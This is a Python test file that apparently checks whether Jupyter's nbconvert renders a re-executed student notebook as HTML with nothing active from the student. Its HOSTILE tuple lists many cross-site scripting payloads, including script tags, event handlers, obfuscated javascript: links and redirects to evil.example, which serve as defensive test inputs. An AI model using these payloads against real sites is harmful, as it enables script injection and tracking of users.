"""What Jupyter's own tools make of an executed notebook: a page with nothing of the student's that runs, loads or leads elsewhere."""

import json
import subprocess
import sys
from html.parser import HTMLParser

import pytest

from grader.record.notebook import executed_notebook
from tests.record.test_notebook import PICTURE, cell, output

HOSTILE = (
    "<script>alert(1)</script>",
    '<img src="http://evil.example/a.png" onerror=alert(2)>',
    '<a href="javascript:alert(3)">a</a><iframe srcdoc="<script>alert(4)</script>"></iframe>',
    '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<form action="http://evil.example/"><input name=pw><button formaction="javascript:alert(5)">go</button></form>',
    "<details open ontoggle=alert(6)>x</details>",
    "<style>body{display:none}</style><link rel=stylesheet href=http://evil.example/a.css><object data=x></object>",
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(7)"><script>alert(8)</script></svg>',
    "![a](http://evil.example/track.png) ![a][ref] ![](attachment:none.png) ![](<http://evil.example/b.png>)",
    "[a](javascript:alert(9)) [b](JaVaScRiPt:alert(10)) [c](&#106;avascript:alert(11)) [d](javascript&colon;alert(12))",
    "[e](<javascript:alert(13)>) [f](files/javascript:alert(14)) [g](\tjavascript:alert(15)) [h](data:text/html,<script>1</script>)",
    "[i][ref] [ref]\n\n[ref]: javascript:alert(16)\n[ref2]: <javascript:alert(17)>\n\n<javascript:alert(18)>",
    "```mermaid\n<script>alert(19)</script>\ngraph TD; click A href \"javascript:alert(20)\"\n```",
    "~~~ mermaid\n<img src=x onerror=alert(21)>\n~~~",
    r"$\href{javascript:alert(22)}{x}$ $$\style{background:url(http://evil.example/c)}{x}$$ $<img src=x onerror=alert(23)>$",
    '# <img src=x onerror=alert(24)>\n\n| <script>alert(25)</script> | [a](javascript:alert(26)) |\n|---|---|\n| x | y |',
    "`<script>alert(27)</script>` and\n\n    <script>alert(28)</script>\n\n> <img src=http://evil.example/d.png>",
)  # fmt: skip
HONEST = "# Title\n\nSome **bold**, a < b, <b>bold</b><br>, [a link](https://numpy.org) and $a < b^2$.\n\n```python\nx = 1\n```"


def opened(tmp_path, cells, template):
    """Return the page that `jupyter nbconvert` makes of an executed notebook."""
    path = tmp_path / "s001.ipynb"
    path.write_bytes(executed_notebook({"cells": cells})[0])
    words = [sys.executable, "-m", "nbconvert", "--to", "html", "--template", template, str(path)]
    done = subprocess.run(words, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    return path.with_suffix(".html").read_text(encoding="utf-8")


class Page(HTMLParser):
    """What of a page runs, loads or leads somewhere, and its text."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.active, self.text = [], []
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        """Take down each element that does something, and each attribute."""
        if tag in (
            "script",
            "style",
            "link",
            "meta",
            "base",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "svg",
            "details",
        ):
            self.active.append((tag, tuple(sorted(attributes))))
        for name, value in attributes:
            if tag == "a" and name == "href" and (value or "").startswith(("http://", "https://")):
                continue  # a link to the web loads nothing by itself
            address = "".join((value or "").split()).lower()
            if (
                name.startswith("on")
                or name in ("srcdoc", "formaction", "style", "srcset", "background")
                or (
                    name in ("src", "href", "data", "action", "xlink:href")
                    and not address.startswith(("#", "data:image/png;base64,"))
                )
                or (name == "class" and "mermaid" in address)
            ):
                self.active.append((tag, name, value))

    def handle_data(self, data):
        """Keep the text."""
        self.text.append(data)


def hostile():
    """Return a notebook that has something hostile in every place that a child, or the author of a file, can fill."""
    for text in HOSTILE:
        shown = {
            "text/plain": text,
            "text/markdown": text,
            "text/latex": text,
            "text/html": text,
            "image/svg+xml": text,
        }
        shown |= {
            "application/javascript": "alert(30)",
            "__proto__": text,
            "application/vnd.jupyter.widget-view+json": "{}",
        }
        yield cell("markdown", source=text, tags=['x" onclick="alert(31)'], execution_count=None)
        yield cell("raw", source=text, execution_count=None)
        yield cell(
            source=text,
            tags=['x" onclick="alert(32)'],
            outputs=[
                output("stream", name=text, text=f"{text}\x1b[31m{text}\x1b]8;;javascript:alert(33)\x07link"),
                output("display_data", data=shown | {"image/png": text.encode(), "image/jpeg": text.encode()}),
                output("execute_result", data={"text/markdown": text}),
            ],
            error={
                "type": text,
                "message": text,
                "frames": [{"file": text, "line": 1, "function": text, "code": text}],
            },
        )


@pytest.mark.parametrize(
    "template", ["lab", *(pytest.param(other, marks=pytest.mark.soak) for other in ("classic", "basic"))]
)
def test_opened_page_has_nothing_of_the_student_that_acts(tmp_path, template):
    """A page made without any cleaning holds the scripts, styles and links of the tool itself, and no other."""
    own = Page(opened(tmp_path, [cell(source="x = 1", execution_count=1)], template)).active
    page = Page(opened(tmp_path, list(hostile()), template))
    added = [one for one in page.active if one not in own]
    assert added == []
    assert "alert(1)" in "".join(page.text)


def test_opened_page_shows_honest_markdown(tmp_path):
    """Emphasis, code, links to the web, formulas and pictures are shown as they were."""
    picture = output("display_data", data={"text/plain": "<Figure>", "image/png": PICTURE})
    page = opened(tmp_path, [cell("markdown", source=HONEST, execution_count=None), cell(outputs=[picture])], "basic")
    for part in (
        "<strong>bold</strong>",
        "<b>bold</b><br",
        'href="https://numpy.org"',
        "$a &lt; b^2$",
        "data:image/png;base64,",
    ):
        assert part in page


def test_opened_page_of_a_notebook_as_it_was_handed_in_acts(tmp_path):
    """The control: the same tool runs what stands in a notebook that was not made anew."""
    notebook = {"cells": [{"cell_type": "markdown", "id": "a", "metadata": {}, "source": text} for text in HOSTILE[:6]]}
    path = tmp_path / "s001.ipynb"
    path.write_text(json.dumps(notebook | {"metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    words = [sys.executable, "-m", "nbconvert", "--to", "html", "--template", "basic", str(path)]
    subprocess.run(words, check=True, capture_output=True, timeout=300)
    active = Page(path.with_suffix(".html").read_text(encoding="utf-8")).active
    assert ("script", ()) in active
    assert ("img", "onerror", "alert(2)") in active
    assert ("a", "href", "javascript:alert(3)") in active
